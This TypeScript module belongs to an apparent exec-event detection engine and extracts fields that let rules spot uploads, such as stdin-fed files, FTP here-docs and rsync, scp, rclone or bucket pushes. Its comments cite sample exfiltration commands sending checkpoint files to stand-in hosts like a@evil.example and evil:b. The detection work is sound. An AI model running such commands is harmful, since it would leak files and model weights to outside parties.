/**
 * Readings of an exec's commands (exec-canonical.ts) that rules opt into by field name
 * (event-fields.ts), because `attrs.exec.command` does not give them:
 *
 * - `argvLines` (`attrs.exec.argvLine`): each command that runs from argv itself, not from a
 *   script, as one line of its words. `kubectl exec pod -- tar czf /tmp/m.tgz /mnt/ckpt` is the
 *   argv `tar`, `czf`, …: a rule written for `tar c` over a script's command lines never saw it,
 *   though `sh -c 'tar czf …'` is the same act. `attrs.exec.command` makes no line of argv on
 *   purpose (exec-readings.ts: `kubectl cp` runs `tar cf - <path>` in the pod, which every rule
 *   over its lines would read as packing); a rule over this field says what it makes of that.
 * - `stdinFileTools` (`attrs.exec.stdinFromFile`): the tools a shell script feeds a file on
 *   standard input (`ssh h 'cat > m.pt' < /mnt/ckpt/model.pt`, `openssl s_client -connect h:443
 *   < f`, `mail -s x a@evil.example < f`, `0<f`, `<>f`): an upload whose file no argument names,
 *   which neither an upload option nor a pipe (`| ssh`) shows. Only scripts have redirections:
 *   a `<` in argv is a word the tool is given. `/dev/null`, `/dev/stdin` and descriptors are no
 *   file. The tool is the command's tool word past wrappers (`sudo`, `nohup`, `timeout 5`…) as a
 *   basename; the last redirection of standard input is the one the tool reads (the shell applies
 *   them in order).
 * - `clientInputLines` (`attrs.exec.clientInput`): the commands a script feeds an FTP, SFTP, TFTP
 *   or SMB client on standard input (`ftp -n h <<EOF … put f … EOF`), read while the canonical
 *   reading is built (it needs the script's here-docs).
 * - `remoteCopyTools` (`attrs.exec.copiesToRemote`): rsync or scp pushing a local file to a remote
 *   destination, which staging rules read as a copy but is an upload; an object-store CLI copying
 *   to a bucket (exec-bucket-copies.ts), rclone or MinIO's mc sending to a remote
 *   (exec-rclone-copies.ts, exec-minio-copies.ts), where a download is everyday work.
 *
 * All are bounded (MAX_LINES, the reading's own bounds before that) and never throw.
 */
import { stdinText, type ToolAt } from './exec-decode-pipeline.js';
import { operandsOf, stdinFile } from './exec-decode-stage.js';
import { BUCKET_COPY_TOOLS, copiesToBucket } from './exec-bucket-copies.js';
import { rcloneSends } from './exec-rclone-copies.js';
import { mcSends, MINIO_TOOLS } from './exec-minio-copies.js';
import { runIndex } from './exec-fetched-run.js';
import { withoutNote } from './exec-canonical.js';
import { joinWords } from './exec-readings.js';
import type { ShellScript } from './shell-words.js';

/** Lines (or tools) one reading gives each field. */
export const MAX_LINES = 64;

/** Adds `line` to a field's lines unless it is there already or the field holds MAX_LINES. */
export function addLine(out: string[], line: string): void {
  if (out.length < MAX_LINES && !out.includes(line)) out.push(line);
}
/** Characters kept of one line a client reads. */
const MAX_LINE_CHARS = 512;
/** Clients that read their commands on standard input (FTP, SFTP, TFTP and SMB shells): `clientInputLines`. */
export const STDIN_CLIENTS: ReadonlySet<string> = new Set(['ftp', 'pftp', 'sftp', 'lftp', 'tftp', 'ncftp', 'smbclient']);

/** The words of each argv command (not read from a script) with two or more words, joined by single spaces. */
export function argvLines(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
  const out: string[] = [];
  for (let c = 0; c < commands.length && out.length < MAX_LINES; c++) {
    const words = commands[c]!;
    if (scripted[c] === true || words.length < 2) continue;
    out.push(joinWords(words));
  }
  return out;
}

/** The tools of the scripts' commands that read a file on standard input, in order, each once. */
export function stdinFileTools(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
  const out: string[] = [];
  for (let c = 0; c < commands.length && out.length < MAX_LINES; c++) {
    const words = commands[c]!;
    if (scripted[c] !== true || stdinFile(words) === null) continue;
    // The tool past reserved words, assignments, redirections and wrappers.
    const tool = runIndex(words).tool;
    if (tool !== '' && !out.includes(tool)) out.push(tool);
  }
  return out;
}

/**
 * Adds to `out` the commands the client `name` (STDIN_CLIENTS) of the script's command `i` reads on
 * standard input, one per line (or `;`-separated, as lftp reads them), each as `<client> <command>`:
 * `ftp -n h <<EOF … put /mnt/ckpt/model.pt m.bin … EOF` gives `ftp put /mnt/ckpt/model.pt m.bin`.
 * The text is its here-doc or here-string, or what a pipeline of literal stages writes into it
 * (`printf 'user a b\nput f\n' | ftp -n h`: exec-decode-pipeline.ts); a file on stdin is
 * `stdinFileTools`' reading.
 */
export function clientInputLines(read: ShellScript, i: number, name: string, toolAt: ToolAt, out: string[]): void {
  const text = stdinText(read, i, toolAt);
  if (typeof text !== 'string') return;
  for (const line of text.split(/[\n;]/)) {
    if (out.length >= MAX_LINES) return;
    const command = line.trim();
    if (command !== '') out.push(`${name} ${command.length > MAX_LINE_CHARS ? command.slice(0, MAX_LINE_CHARS) : command}`);
  }
}

/** rsync options that take a value as the next word (rsync 3.2 `--help`); short ones may end a cluster. */
const RSYNC_VALUE_SHORT = new Set(['e', 'f', 'B', 'T', 'M']);
const RSYNC_VALUE_LONG = new Set([
  'rsh', 'rsync-path', 'filter', 'exclude', 'exclude-from', 'include', 'include-from', 'files-from', 'password-file', 'port', 'temp-dir',
  'log-file', 'log-file-format', 'partial-dir', 'bwlimit', 'chmod', 'chown', 'usermap', 'groupmap', 'backup-dir', 'suffix', 'block-size',
  'timeout', 'contimeout', 'max-size', 'min-size', 'max-delete', 'compress-level', 'compress-choice', 'checksum-choice', 'link-dest',
  'compare-dest', 'copy-dest', 'remote-option', 'info', 'debug', 'out-format', 'sockopts', 'iconv', 'modify-window', 'outbuf', 'address',
]);
/** scp options that take a value as the next word (OpenSSH 9). */
const SCP_VALUE_SHORT = new Set(['c', 'D', 'F', 'i', 'J', 'l', 'o', 'P', 'S', 'X']);

/** Whether an rsync / scp operand names a remote file: `rsync://`, `scp://`, or a colon before any slash (`h:p`, `u@h:p`, `h::module`). */
export function remoteOperand(w: string): boolean {
  if (w.startsWith('rsync://') || w.startsWith('scp://')) return true;
  const colon = w.indexOf(':');
  const slash = w.indexOf('/');
  return colon > 0 && (slash < 0 || colon < slash);
}

/** The operands of rsync or scp at `t` (options and their values stepped over). */
export function copyOperands(words: readonly string[], t: number, rsync: boolean): string[] {
  const out: string[] = [];
  for (let k = t + 1; k < words.length; k++) {
    const w = words[k]!;
    if (w === '--') {
      out.push(...words.slice(k + 1));
      break;
    }
    if (w.startsWith('--')) {
      if (rsync && w.indexOf('=') < 0 && RSYNC_VALUE_LONG.has(w.slice(2))) k++;
      continue;
    }
    if (w.length > 1 && w[0] === '-') {
      const takes = rsync ? RSYNC_VALUE_SHORT : SCP_VALUE_SHORT;
      for (let i = 1; i < w.length; i++) {
        if (!takes.has(w[i]!)) continue;
        if (i === w.length - 1) k++;
        break;
      }
      continue;
    }
    out.push(w);
  }
  return out;
}

/** Whether rsync / scp `words` (the tool word first) copy a local source to a remote destination (their last operand). */
function pushesToRemote(words: readonly string[], tool: string): boolean {
  const ops = copyOperands(words, 0, tool === 'rsync');
  return ops.length >= 2 && remoteOperand(ops[ops.length - 1]!) && ops.slice(0, -1).some((o) => !remoteOperand(o));
}

/**
 * The copy tools (rsync, scp) of `commands` whose destination (the last operand) is remote and
 * that copy at least one local source there: `rsync -az /mnt/ckpt/ u@h:/x/` (a push, the
 * exfiltration) gives `rsync`; `rsync -a u@h:/data /local` (a pull) and `rsync -a /a /b` give
 * nothing. The object-store CLIs (aws, gsutil, gcloud, s3cmd, s5cmd, azcopy, uplink) when they copy to a
 * bucket (exec-bucket-copies.ts): `aws s3 cp f s3://b/` gives `aws`, a download nothing. rclone
 * when it sends to a remote (exec-rclone-copies.ts): `rclone copy /mnt/ckpt evil:b` gives `rclone`,
 * a pull (`rclone copy s3:datasets /data`) nothing. MinIO's mc (or mcli) when it may send
 * (exec-minio-copies.ts): `mc cp /mnt/ckpt/m.pt evil/b/` gives `mc`, `mc cp minio/ds/x /data/`
 * nothing. Redirections of a script's command are not operands.
 * In order, each once.
 */
export function remoteCopyTools(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
  const out: string[] = [];
  for (let c = 0; c < commands.length && out.length < MAX_LINES; c++) {
    const { words: all, t, tool } = runIndex(commands[c]!);
    if (t >= all.length) continue;
    const bucket = BUCKET_COPY_TOOLS.has(tool);
    const minio = MINIO_TOOLS.has(tool);
    if ((tool !== 'rsync' && tool !== 'scp' && tool !== 'rclone' && !bucket && !minio) || out.includes(tool)) continue;
    const words = scripted[c] === true ? withoutNote([tool, ...(operandsOf(all, t, false) ?? [])], 0) : all.slice(t);
    if (bucket ? copiesToBucket(words, tool) : minio ? mcSends(words) : tool === 'rclone' ? rcloneSends(words) : pushesToRemote(words, tool)) out.push(tool);
  }
  return out;
}
